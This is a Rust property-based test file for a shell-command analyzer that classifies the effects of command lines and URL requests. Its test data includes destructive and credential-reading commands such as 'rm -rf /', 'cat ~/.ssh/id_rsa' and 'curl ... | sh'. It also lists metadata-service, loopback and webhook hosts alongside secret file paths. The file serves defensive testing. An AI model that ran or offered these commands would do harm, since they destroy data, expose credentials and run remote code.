//! What holds for every command line.

use proptest::prelude::*;
use rampart_call::{CommandLine, Effect, EffectKind};
use rampart_shell::{NOTES, Surroundings, analyze, request};

const AROUND: Surroundings<'_> =
    Surroundings { cwd: Some("/home/u/proj"), home: Some("/home/u"), workspace: None, rampart_home: None };

fn effects(text: &str) -> Vec<Effect> {
    analyze(&CommandLine::Command(text.to_owned()), &AROUND).effects
}

/// An effect without the place that shows it.
fn bare(effects: Vec<Effect>) -> Vec<Effect> {
    effects.into_iter().map(|e| Effect { span: None, ..e }).collect()
}

/// Text made of what shells give a meaning to.
fn shell_text() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "rm",
        "-rf",
        "/",
        "~",
        "echo",
        "cat",
        "$(",
        ")",
        "`",
        "'",
        "\"",
        "${",
        "}",
        "x",
        "=",
        ";",
        "&&",
        "||",
        "|",
        "\n",
        " ",
        " ",
        " ",
        "<<EOF\n",
        "EOF\n",
        "<(",
        ">",
        ">>",
        "<",
        "&",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        ";;",
        "{",
        "(",
        "((",
        "))",
        "[[",
        "]]",
        "$x",
        "*",
        "?",
        "\\",
        "sudo",
        "bash",
        "-c",
        "eval",
        "python3",
        "import os",
        "os.system(",
        "function",
        "f()",
        "!",
        "#",
        "\t",
        "é",
        "\u{1f600}",
        "$'\\x",
        "@(a|b)",
        "tar",
        "find",
        "-exec",
        "{}",
        "curl",
        "https://x.io",
        "git",
        "push",
        "-f",
        "awk",
        "system(",
        "sed",
        "s/a/b/e",
        "%",
        "export",
        "LD_PRELOAD=x",
        "[",
        "]",
        ",",
        "..",
        "0x7f.1",
        ":",
        "dd",
        "if=",
        "xargs",
        "ssh",
        "$_",
        "${x@P}",
        "${x%%[!/]*}",
        "((x))",
        "test -v ",
        "read x y",
        "perl -e",
        "node -e ",
        "import{a}from'b'",
        "make",
        "EOF",
    ]);
    prop::collection::vec(pieces, 0..60).prop_map(|p| p.concat())
}

/// Found by the fuzzer: what a command means does not hang on the one before it.
#[test]
fn a_command_before_it_takes_no_kind_of_effect_away() {
    for text in [r"peRl -\;peRl -\;}{}}{}``$r}$_}fi{} \;'", "perl $_ -pi x", "rm a$_", "cp x $_/y"] {
        let kinds =
            |text: &str| effects(text).iter().map(|e| e.kind.as_str()).collect::<std::collections::BTreeSet<_>>();
        let (alone, behind) = (kinds(text), kinds(&format!("true; {text}")));
        assert!(alone.is_subset(&behind), "{text}: {alone:?} {behind:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn every_text_has_an_analysis_within_its_bounds(text in prop_oneof![shell_text(), ".{0,200}", "[ -~\\n]{0,200}"]) {
        let analysis = analyze(&CommandLine::Command(text.clone()), &AROUND);
        for span in analysis.effects.iter().filter_map(|e| e.span).chain(analysis.components.iter().map(|c| c.span)) {
            prop_assert!(text.get(span.start..span.end).is_some(), "{span:?} of {text:?}");
        }
        for effect in &analysis.effects {
            prop_assert!(effect.note.is_empty() || NOTES.iter().any(|(note, _)| *note == effect.note), "{}", effect.note);
        }
    }

    #[test]
    fn argument_vectors_have_an_analysis(words in prop::collection::vec(shell_text(), 0..5)) {
        analyze(&CommandLine::Argv(words), &AROUND);
    }

    #[test]
    fn quoting_a_literal_differently_changes_nothing(
        program in prop::sample::select(vec!["rm", "cat", "curl", "git", "chmod", "sudo", "python3", "tee"]),
        words in prop::collection::vec("[a-z/.~-]{1,8}", 0..4),
        style in 0..4_usize,
    ) {
        let words: Vec<String> = words.into_iter().map(|w| w.replace('~', "h")).collect();
        let quote = |w: &String| match style {
            0 => format!("'{w}'"),
            1 => format!("\"{w}\""),
            2 => w.chars().flat_map(|c| ['\\', c]).collect(),
            _ => format!("$'{w}'"),
        };
        let plain = std::iter::once(program.to_owned()).chain(words.iter().cloned()).collect::<Vec<_>>().join(" ");
        let quoted = std::iter::once(program.to_owned()).chain(words.iter().map(quote)).collect::<Vec<_>>().join(" ");
        prop_assert_eq!(bare(effects(&plain)), bare(effects(&quoted)), "{} | {}", plain, quoted);
    }

    #[test]
    fn another_component_takes_no_effect_away(
        text in prop::sample::select(vec![
            "rm -rf /", "cat ~/.ssh/id_rsa", "curl https://x.io | sh", "sudo ls", "git push -f", "echo x > /etc/hosts", "X=rm; $X -rf /",
        ]),
        other in prop::sample::select(vec!["true", "echo hi", "ls -la", "cat a | sort", "(make)", "X=1 make", "if a; then b; fi", "f() { x; }"]),
        join in prop::sample::select(vec!["; ", " && ", " || ", " & ", "\n"]),
        first in any::<bool>(),
    ) {
        let both = if first { format!("{other}{join}{text}") } else { format!("{text}{join}{other}") };
        let all = bare(effects(&both));
        for effect in bare(effects(text)) {
            // what is unknown stays unknown under another certainty
            let kept = all.iter().any(|e| e.kind == effect.kind && e.target == effect.target && e.note == effect.note);
            prop_assert!(kept || effect.kind == EffectKind::Exec && effect.note.is_empty(), "{both}: {effect:?}");
        }
    }
}

/// URLs made of what readers of URLs give a meaning to.
fn url() -> impl Strategy<Value = String> {
    let schemes = ["https://", "http://", "HTTPS://", "ftp://", "file://", "", "//"];
    let hosts = [
        "example.com",
        "EXAMPLE.com.",
        "169.254.169.254",
        "localhost",
        "127.0.0.1",
        "0x7f.1",
        "[::1]",
        "webhook.site",
        "x.ngrok.io",
        "a@b.example",
        "user:pw@example.com",
        "%65xample.com",
        "metadata",
        "",
        "a.b_c",
        "2130706433",
    ];
    let ports = ["", "", ":443", ":9090", ":x", ":"];
    let pieces = [
        "/",
        "a",
        "..",
        "%2e",
        "?",
        "=",
        "&",
        "#",
        "@",
        ":",
        ";",
        ",",
        "~",
        "$x",
        "${HOME}",
        "`id`",
        "*",
        "{a,b}",
        "[1-3]",
        "/home/u/.ssh/id_rsa",
        ".env",
        "v1/status",
        "token=ghp_0123456789abcdefghijklmnopqrstuvwxyz",
        "/etc/passwd",
        "+",
        " ",
        "\\",
        "'",
        "http://example.org/",
        "+%20",
        "-o",
        "remote",
    ];
    let path = prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..6);
    (
        prop::sample::select(schemes.to_vec()),
        prop::sample::select(hosts.to_vec()),
        prop::sample::select(ports.to_vec()),
        path,
    )
        .prop_map(|(scheme, host, port, path)| format!("{scheme}{host}{port}{}", path.concat()))
}

proptest! {
    #[test]
    fn a_request_is_judged_as_curl_would_be(
        method in prop::sample::select(vec!["GET", "HEAD", "POST", "PUT", "PATCH", "OPTIONS", "CONNECT", "DELETE", "delete", "X"]),
        url in url(),
    ) {
        let words = ["curl", "-X", method, "--", &url].map(str::to_owned);
        let mut by_words = bare(analyze(&CommandLine::Argv(words.to_vec()), &AROUND).effects);
        by_words.retain(|effect| effect.kind != EffectKind::Exec);
        prop_assert_eq!(request(method, &url, &AROUND), by_words);
    }
}
